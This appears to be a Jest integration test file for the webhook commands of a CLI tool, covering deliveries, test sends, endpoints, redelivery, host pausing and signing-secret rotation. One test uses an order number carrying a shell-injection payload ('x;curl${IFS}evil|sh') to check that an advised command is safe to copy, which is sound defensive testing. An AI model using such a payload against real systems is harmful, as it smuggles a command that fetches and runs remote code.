import { afterEach, describe, expect, test } from '@jest/globals';
import { answer, refusingPort, silence } from '../integration/webhooks/receivers.ts';
import { waitUntil } from '../support/wait-until.ts';
import { deadAddress, openCommandLine, widthOf } from './cli-harness.ts';
import { nobody, openWebhookCommandDesk } from './cli-webhook-desk.ts';
import type { ListedDelivery } from './cli-webhook-desk.ts';
import { shared } from '../support/shared-stack.ts';
import { eventOf } from './trading-shop.ts';

const desk = shared(openWebhookCommandDesk);
afterEach(() => desk.closeReceivers());

describe('webhook deliveries, show and explain', () => {
  test('deliveries are listed, filtered, and shown with body and attempts', async () => {
    const receiver = await desk.openReceiver();
    await desk.pay('listed-1', `${receiver.origin}/hook`);
    const { delivery_id: id } = await desk.tried(receiver);

    const listed = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, '--order-number', 'listed-1'],
    );
    const given = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, '--state', 'given_up', '--since', '1h'],
    );
    const earlier = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, '--until', '1h', '-e', 'live'],
    );
    const shown = await desk.cli.run('webhook', 'show', desk.merchant.id, id);
    const json = await desk.cli.json('webhook', 'show', desk.merchant.id, id);

    expect(listed.stdout).toMatch(
      new RegExp(`^${id} +delivered +order\\.completed +204\\nlisted-1 +1 attempt`, 'm'),
    );
    expect(given.stdout).toBe(`No deliveries match in SANDBOX, merchant ${desk.merchant.id}\n`);
    expect(earlier.stdout).toBe(`No deliveries match in PRODUCTION, merchant ${desk.merchant.id}\n`);
    expect(shown.stdout).toMatch(/^State +delivered$/m);
    expect(shown.stdout).toMatch(/^ {4}"order_number": "listed-1",$/m);
    expect(shown.stdout).toMatch(/^#1 {2}\S+Z {2}answered 204 in \d+ ms by 127\.0\.0\.1$/m);
    expect(json).toMatchObject({
      delivery_id: id,
      state: 'delivered',
      body: receiver.webhooks[0]?.body.toString(),
      attempts: [{ number: 1, result: 'delivered', status_code: 204 }],
    });
    for (const { stdout } of [listed, shown]) expect(widthOf(stdout)).toBeLessThanOrEqual(100);
  });

  test('the history of an ended order names a command that lists its deliveries and is safe to copy', async () => {
    const receiver = await desk.openReceiver();
    const orderNumber = 'x;curl${IFS}evil|sh';
    await desk.pay(orderNumber, receiver.origin);
    const { delivery_id: id } = await desk.tried(receiver);
    const withCore = await openCommandLine({
      ...desk.settingsWith(desk.stack.tokens.reader),
      GATEHOUSE_CORE_ADDRESSES: desk.stack.addresses.join(),
    });

    const { stdout } = await withCore.run('order', 'show', desk.merchant.id, orderNumber);
    const [, advised = ''] = /^gatehouse (webhook deliveries .*)$/m.exec(stdout) ?? [];
    const listed = await withCore.run(...advised.split(' '));
    await withCore.stop();

    expect(listed.stdout.match(/whd_\w+/g)).toEqual([id]);
    expect(advised).toMatch(/^[\w -]+$/);
  });

  test('lists continue after a page, and a relative time becomes an absolute one', async () => {
    const receiver = await desk.openReceiver();
    await desk.sendTest(receiver);
    await desk.sendTest(receiver);
    const to = ['--host', receiver.origin];

    const first = await desk.cli.run(
      ...['webhook', 'deliveries', desk.merchant.id, ...to, '--since', '1h', '--limit', '1'],
    );
    const [, token = '', since = ''] = /--page-token (\S+) --since (\S+)$/m.exec(first.stdout) ?? [];
    // The former name of the option.
    const second = await desk.cli.json(
      ...['webhook', 'deliveries', desk.merchant.id, '--endpoint', receiver.origin],
      ...['--since', since, '--page-token', token],
    );

    expect(second['deliveries']).toHaveLength(1);
    expect(first.stdout).not.toContain((second['deliveries'] as ListedDelivery[])[0]!.delivery_id);
  });

  test('the reason why a delivery waits is a sentence, with a command to paste', async () => {
    const receiver = await desk.openReceiver(answer(503, { 'retry-after': '3600' }));
    await desk.sendTest(receiver);
    const { delivery_id: id } = await desk.tried(receiver);

    const { exitCode, stdout } = await desk.cli.run('webhook', 'explain', desk.merchant.id, id);
    const json = await desk.cli.json('webhook', 'explain', desk.merchant.id, id);

    expect(exitCode).toBe(0);
    expect(stdout).toContain(`Delivery ${id} in SANDBOX is pending`);
    expect(stdout).toContain(`\n  gatehouse webhook redeliver ${desk.merchant.id} ${id}\n`);
    expect(widthOf(stdout)).toBeLessThanOrEqual(110);
    expect(json).toMatchObject({
      delivery: { delivery_id: id, state: 'pending' },
      endpoint: { endpoint: receiver.origin, state: 'open' },
      sentences: expect.any(Array),
      next_attempt_time: expect.stringMatching(/Z$/),
    });
  });

  test('an unknown delivery exits with code 3 and names the command that lists deliveries', async () => {
    const { exitCode, stderr } = await desk.cli.run('webhook', 'show', desk.merchant.id, nobody('whd'));

    expect(exitCode).toBe(3);
    expect(stderr).toContain('webhook deliveries <merchant_id>');
  });
});

describe('webhook test', () => {
  test.each([
    ['accepts it', 204, answer(204), /^The test was delivered: answered 204 in \d+ ms by 127\.0\.0\.1$/m],
    [
      'refuses it, and shows the answer',
      500,
      answer(500, {}, 'no such table'),
      /^The test was not delivered: answered 500 in \d+ ms by 127\.0\.0\.1$[^]*< no such table[^]*webhook explain mer_\w+ whd_/m,
    ],
    [
      'wants a login, and prints the reason in full, although it is longer than a line',
      401,
      answer(401),
      /without\s+a\s+login\s+and\s+verify\s+their\s+signature\s+with\s+the\s+merchant's\s+current\s+signing\s+secret/,
    ],
  ])('exits with the code for its result when the receiver %s', async (_what, status, behaviour, said) => {
    const receiver = await desk.openReceiver(behaviour);

    const { exitCode, stdout } = await desk.sendTest(receiver);

    expect(exitCode).toBe(status === 204 ? 0 : 1);
    expect(stdout).toMatch(said);
    expect(JSON.parse(receiver.webhooks[0]!.body.toString())).toMatchObject({ type: 'webhook.test' });
  });

  test('exits with code 1 when nothing listens, with the attempt in JSON', async () => {
    const url = `http://127.0.0.1:${refusingPort}/hook`;

    const { exitCode, stdout, stderr } = await desk.cli.run(
      ...['webhook', 'test', desk.merchant.id, '--url', url, '--json'],
    );

    expect({ exitCode, stderr }).toEqual({ exitCode: 1, stderr: '' });
    expect(JSON.parse(stdout)).toMatchObject({
      state: 'pending',
      attempts: [{ result: 'connection_failed', status_code: 0 }],
    });
  });
});

test('without a webhooks process, a webhook command exits with code 5 and names the setting', async () => {
  const address = await deadAddress();
  const away = await openCommandLine(desk.settingsWith('any', address));

  const { exitCode, stderr } = await away.run('webhook', 'endpoints');
  await away.stop();

  expect(exitCode).toBe(5);
  expect(stderr).toContain(`no webhooks process answers at ${address} (nothing listens there)`);
  expect(stderr).toContain('GATEHOUSE_WEBHOOKS_ADDRESSES');
});

const endpoint = (...words: readonly string[]) => desk.cli.run('webhook', 'endpoint', ...words);

test('an endpoint is created with its secret shown once, tested, changed, paused, resumed and deleted', async () => {
  const receiver = await desk.openReceiver();
  const { id } = await desk.stack.createMerchant();

  const created = await endpoint('create', id, '--url', `${receiver.origin}/hook`, '--types', 'order.failed');
  const [whe = ''] = /whe_\w+/.exec(created.stdout) ?? [];
  const [secret = ''] = /^whsec_\S{44}$/m.exec(created.stdout) ?? [];
  const tested = await endpoint('test', id, whe);
  const updated = await endpoint('update', id, whe, '--types', 'all', '--description', 'Books');
  const paused = await endpoint('pause', id, whe, '--reason', 'a new server');
  const listed = await endpoint('list', id);
  const inactive = await desk.cli.run('webhook', 'hosts', id, '--inactive');
  const resumed = await endpoint('resume', id, whe);
  const history = await desk.cli.run('webhook', 'deliveries', id, '--webhook-endpoint', whe);
  const shown = await desk.cli.json('webhook', 'endpoint', 'show', id, whe);
  const deleted = await endpoint('delete', id, whe);
  const none = await endpoint('list', id);

  expect(created.stdout).toContain('Copy this secret now. Gatehouse cannot show it again.');
  expect(created.stdout).toMatch(/^Types +order\.failed$/m);
  expect(tested.stdout).toMatch(/^The test was delivered: answered 204/);
  expect(tested.stdout).toContain('current signing secret of the webhook endpoint');
  const [webhook] = receiver.webhooks;
  expect(eventOf(webhook!, secret)).toMatchObject({ type: 'webhook.test' });
  expect(updated.stdout).toMatch(/^Types +all$/m);
  expect(paused.stdout).toMatch(/^State +paused: a new server$/m);
  for (const { stdout } of [listed, inactive]) {
    expect(stdout).toContain(whe);
    expect(stdout).toContain('paused: a new server');
    expect(widthOf(stdout)).toBeLessThanOrEqual(100);
  }
  expect(resumed.stdout).toMatch(/^State +active$/m);
  expect(history.stdout).toContain('webhook.test');
  expect(shown).toMatchObject({ webhook_endpoint_id: whe, description: 'Books', awaits_secret: false });
  expect(JSON.stringify(shown)).not.toContain(secret);
  expect(deleted.stdout).toContain('0 pending deliveries are abandoned.');
  expect(none.stdout).toContain(`webhook endpoint create ${id} --url`);
});

test('deliveries that wait for a secret are listed and explained, each with the command that creates it', async () => {
  const receiver = await desk.openReceiver();
  const { id } = await desk.stack.createMerchant();
  const { stdout } = await endpoint('create', id, '--url', receiver.origin, '--no-secret');
  const [whe = ''] = /whe_\w+/.exec(stdout) ?? [];
  await desk.stack
    .webhookEndpointClient('operator')
    .testWebhookEndpoint({ merchantId: id, webhookEndpointId: whe });
  await desk.stack
    .webhookClient('operator')
    .sendTestEvent({ merchantId: id, environment: 1, url: receiver.origin });
  const listed = await waitUntil('both wait', async () => {
    const { stdout: text } = await endpoint('list', id);
    return (
      text.includes(`webhook secret rotate ${id} --environment sandbox`) &&
      text.includes(`to ${whe} has waited`) &&
      text
    );
  });
  const { deliveries } = await desk.cli.json('webhook', 'deliveries', id, '--webhook-endpoint', whe);
  const [{ delivery_id: deliveryId }] = deliveries as [{ delivery_id: string }];
  const explained = await desk.cli.run('webhook', 'explain', id, deliveryId);
  const secrets = await desk.cli.run('webhook', 'secret', 'list', id);
  const [, advised = ''] = /gatehouse (webhook endpoint rotate-secret .*)$/m.exec(explained.stdout) ?? [];
  const rotated = await desk.cli.run(...advised.split(' '));
  await waitUntil('the test came', () => receiver.webhooks.length === 1);
  const next = await endpoint('rotate-secret', id, whe);
  const [, promote = ''] = /gatehouse (webhook endpoint promote-secret .*)$/m.exec(next.stdout) ?? [];
  const promoted = await desk.cli.run(...promote.split(' '));

  expect(listed).toMatch(/1 delivery to whe_\w+ has waited since .* for a signing secret/);
  expect(explained.stdout).toContain('It waits until a signing secret is shown');
  expect(secrets.stdout).toContain(`webhook secret rotate ${id} --environment sandbox`);
  expect(rotated.stdout).toMatch(/^whsec_\S{44}$/m);
  expect(promoted).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^State +current$/m) });
  // The webhook_url has a secret of its own.
  expect(receiver.webhooks).toHaveLength(1);
});

test('errors about webhook endpoints say what to do', async () => {
  const { id } = await desk.stack.createMerchant();
  const url = 'https://shop.example/hook';
  await endpoint('create', id, '--url', url);
  const results = [
    [await endpoint('show', id, nobody('whe')), 3, 'gatehouse webhook endpoint list <merchant_id>'],
    [
      await endpoint('create', id, '--url', url),
      4,
      'rotate-secret <merchant_id> <endpoint_id> --promote-after 0s',
    ],
    [
      await endpoint('create', id, '--url', 'http://shop.example', '-e', 'live'),
      ...[2, 'the webhooks process did not accept the input\n  url: must start with https:// in production'],
    ],
    [await endpoint('create', id, '--url', url, '--types', 'order.paid'), 2, 'order.completed'],
  ] as const;
  for (const [{ exitCode, stderr }, code, advice] of results) {
    expect(stderr).toContain(advice);
    expect(exitCode).toBe(code);
  }
});

describe('webhook redeliver', () => {
  test('one delivery is sent again, with the same bytes and id', async () => {
    const receiver = await desk.openReceiver();
    await desk.sendTest(receiver);
    const { delivery_id: id } = await desk.tried(receiver);

    const { exitCode, stdout } = await desk.cli.run('webhook', 'redeliver', desk.merchant.id, id);
    await waitUntil('it came again', () => receiver.webhooks.length === 2);

    const [first, second] = receiver.webhooks;
    expect(exitCode).toBe(0);
    expect(stdout).toContain(`webhook show ${desk.merchant.id} ${id}`);
    expect(second?.body.equals(first!.body)).toBe(true);
    expect(second?.headers['webhook-id']).toBe(first?.headers['webhook-id']);
  });

  test('all deliveries since a time are sent again, and progress is shown until the end', async () => {
    const receiver = await desk.openReceiver();
    const own = await desk.stack.createMerchant({ signsWebhooks: true });
    for (let count = 0; count < 3; count += 1)
      await desk.cli.run('webhook', 'test', own.id, '--url', `${receiver.origin}/hook`);

    const { exitCode, stdout, stderr } = await desk.cli.run(
      ...['webhook', 'redeliver', own.id, '--since', '1h', '--state', 'delivered'],
    );
    const [id = ''] = /whr_\w+/.exec(stdout) ?? [];
    const looked = await desk.cli.json('webhook', 'redelivery', own.id, id);

    expect(exitCode).toBe(0);
    expect(receiver.webhooks).toHaveLength(6);
    expect(stdout).toMatch(/^Made pending +3$/m);
    expect(stdout).toMatch(/^Delivered +3$/m);
    expect(stdout).toContain('All of them were delivered or abandoned.');
    expect(stderr).toContain(`Sending again delivered deliveries in SANDBOX since `);
    expect(stderr).toContain(`webhook redelivery ${own.id} ${id}`);
    expect(stderr).toMatch(/^ {2}3 made pending again, \d of them delivered, \d pending$/m);
    expect(looked).toMatchObject({ redelivery_id: id, redelivered_count: '3', delivered_count: '3' });
  });

  test('Ctrl-C ends the progress report, and the redelivery continues', async () => {
    const receiver = await desk.openReceiver();
    const own = await desk.stack.createMerchant({ signsWebhooks: true });
    await desk.cli.run('webhook', 'test', own.id, '--url', `${receiver.origin}/hook`);
    receiver.behave(silence);

    const following = desk.cli.start('webhook', 'redeliver', own.id, '--since', '1h', '--state', 'delivered');
    await waitUntil('it is on its way', () => following.stderr().includes('1 pending'));
    const { exitCode, stdout } = await following.interrupt();

    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^Pending +1$/m);
    expect(stdout).toContain(`webhook redelivery ${own.id} whr_`);
    await waitUntil('it was sent', () => receiver.webhooks.length === 2);
  });

  test('a redelivery without deliveries reports that', async () => {
    const own = await desk.stack.createMerchant({ signsWebhooks: true });

    const { exitCode, stdout } = await desk.cli.run(
      ...['webhook', 'redeliver', own.id, '--since', '1h', '-e', 'live'],
    );

    expect(exitCode).toBe(0);
    expect(stdout).toContain('No delivery was sent again.');
    expect(stdout).toContain('abandoned deliveries in PRODUCTION since');
  });
});

describe('webhook hosts, pause and resume', () => {
  test('a paused host is listed with --inactive, gets nothing, and receives all waiting deliveries after resume', async () => {
    const receiver = await desk.openReceiver();
    const hook = `${receiver.origin}/hook`;
    await desk.sendTest(receiver);

    const paused = await desk.cli.run('webhook', 'pause', desk.merchant.id, hook, '--reason', 'a new server');
    const { delivery_id: id } = await desk.tried(receiver);
    await desk.cli.run('webhook', 'redeliver', desk.merchant.id, id);
    const inactive = await desk.cli.run('webhook', 'hosts', desk.merchant.id, '--inactive');
    // The former name of the option.
    const former = await desk.cli.run('webhook', 'hosts', desk.merchant.id, '--trouble');
    const explained = await desk.cli.run('webhook', 'explain', desk.merchant.id, id);
    const count = receiver.webhooks.length;
    const resumed = await desk.cli.run('webhook', 'resume', desk.merchant.id, hook);
    await waitUntil('it came', () => receiver.webhooks.length === 2);
    // The earlier name of the command.
    const well = await desk.cli.json('webhook', 'endpoints', desk.merchant.id);

    expect(paused.stdout).toMatch(/^State +paused: a new server$/m);
    expect(inactive.stdout).toMatch(
      new RegExp(`^${receiver.origin} +sandbox +1 +paused: a new server$`, 'm'),
    );
    expect(inactive.stdout).toContain('webhook resume <merchant_id> <host> --environment <environment>');
    expect(former).toEqual(inactive);
    expect(explained.stdout).toMatch(/Reason: a new\s+server/);
    expect(count).toBe(1);
    expect(resumed.stdout).toMatch(/^State +active$/m);
    expect(well['endpoints']).toContainEqual(
      expect.objectContaining({ endpoint: receiver.origin, state: 'open', environment: 'sandbox' }),
    );
    expect(widthOf(inactive.stdout)).toBeLessThanOrEqual(100);
  });

  test('the command that explain advises resumes the endpoint', async () => {
    const receiver = await desk.openReceiver(answer(410));
    const { stdout: tested } = await desk.sendTest(receiver);
    const { delivery_id: id } = await desk.tried(receiver);
    const { stdout } = await desk.cli.run('webhook', 'explain', desk.merchant.id, id);
    const [, advised = ''] = /gatehouse (webhook resume .*)$/m.exec(stdout) ?? [];

    const { stdout: listed } = await desk.cli.run('webhook', 'deliveries', desk.merchant.id);
    const { exitCode, stdout: resumed } = await desk.cli.run(...advised.split(' '));

    expect(tested).toContain('It is not sent while its host is paused.');
    expect(tested).not.toContain('It is sent again');
    expect(listed.replace(/\s+/g, ' ')).toContain('due when its host, which is paused, is resumed');
    expect(stdout).toContain('answered 410');
    expect(exitCode).toBe(0);
    expect(resumed).toContain(receiver.origin);
  });

  test('an unknown merchant has no hosts if no core is known, or none answers', async () => {
    const command = ['webhook', 'hosts', nobody('mer')];
    const without = await desk.cli.run(...command);
    const dead = await desk.cli.run(...command, '--address', await deadAddress());

    expect(without).toMatchObject({
      exitCode: 0,
      stdout: expect.stringMatching(/^There are no hosts in either environment of merchant mer_\w+$/m),
    });
    expect(dead).toEqual(without);
  });
});

describe('webhook secret', () => {
  test('the first secret is current at once, and the next one is shown with advice and promoted', async () => {
    const { id } = await desk.stack.createMerchant();

    const none = await desk.cli.run('webhook', 'secret', 'list', id);
    const first = await desk.cli.run('webhook', 'secret', 'rotate', id);
    const second = await desk.cli.run('webhook', 'secret', 'rotate', id, '--promote-after', '2h');
    const listed = await desk.cli.run('webhook', 'secret', 'list', id, '-e', 'sandbox');
    const promoted = await desk.cli.run('webhook', 'secret', 'promote', id);
    const again = await desk.cli.run('webhook', 'secret', 'promote', id);

    const [secret = ''] = /^whsec_\S{44}$/m.exec(second.stdout) ?? [];
    expect(none.stdout).toContain(`webhook secret rotate ${id}`);
    expect(first.stdout).toMatch(/^State +current$/m);
    expect(first.stdout).toContain('After 5 seconds all webhooks are signed with it.');
    expect(second.stdout).toContain('Copy this secret now. Gatehouse cannot show it again.');
    expect(second.stdout).toContain(`webhook secret promote ${id} --environment sandbox`);
    expect(listed.stdout).not.toContain('whsec_');
    expect(listed.stdout).toMatch(/sandbox +\S{4} +\S+Z +current\n/);
    expect(listed.stdout).toMatch(/sandbox +\S{4} +\S+Z +next, current from/);
    expect(listed.stdout).toContain(` ${secret.slice(-4)} `);
    expect(promoted.stdout).toMatch(/^State +current$/m);
    expect(again).toMatchObject({ exitCode: 4, stderr: expect.stringContaining('webhook secret list') });
    for (const { stdout } of [second, listed, promoted]) expect(widthOf(stdout)).toBeLessThanOrEqual(110);
  });

  test('creating another next secret names the one that it replaces', async () => {
    const { id } = await desk.stack.createMerchant();
    await desk.cli.run('webhook', 'secret', 'rotate', id);
    const next = await desk.cli.run('webhook', 'secret', 'rotate', id);

    const { stdout } = await desk.cli.run('webhook', 'secret', 'rotate', id);

    const [ending = ''] = /(?<=^Ends in +)\S{4}$/m.exec(next.stdout) ?? [];
    expect(next.stdout).not.toContain('It replaces');
    expect(stdout).toContain(`It replaces the next secret that ends in ${ending}`);
  });

  test('--json contains the secret, which only an operator gets', async () => {
    const reader = await openCommandLine(desk.settingsWith(desk.stack.tokens.reader));
    const { id } = await desk.stack.createMerchant();

    const refused = await reader.run('webhook', 'secret', 'rotate', id, '-e', 'live');
    const made = await desk.cli.json('webhook', 'secret', 'rotate', id, '-e', 'live');
    const listed = await reader.json('webhook', 'secret', 'list', id);
    await reader.stop();

    expect(refused.exitCode).toBe(4);
    expect(refused.stderr).toContain('a token of an allowed role, such as operator');
    expect(made).toMatchObject({
      environment: 'production',
      state: 'current',
      secret: expect.stringMatching(/^whsec_/),
    });
    expect(listed['signing_secrets']).toEqual([expect.objectContaining({ shown: true })]);
  });
});

test.each([
  [['redelivery', 'MERCHANT', nobody('whr')], ['webhook redeliver <merchant_id> --since <time>']],
  [
    ['resume', 'MERCHANT', 'https://shop.example'],
    ['SANDBOX unless you add --environment production', 'webhook hosts <merchant_id>'],
  ],
  [['secret', 'rotate', nobody('mer')], ['merchant list']],
  ...[['deliveries'], ['hosts'], ['endpoint', 'list'], ['secret', 'list']].map((list) => [
    [...list, nobody('mer'), '--address', 'CORE'],
    ['merchant list'],
  ]),
])('webhook %j names something unknown: exit code 3, with advice', async (words, advice) => {
  const known: Record<string, string> = { MERCHANT: desk.merchant.id, CORE: desk.stack.addresses[0]! };
  const named = words.map((word) => known[word] ?? word);

  const { exitCode, stderr } = await desk.cli.run('webhook', ...named);

  expect(exitCode).toBe(3);
  for (const text of advice) expect(stderr).toContain(text);
});
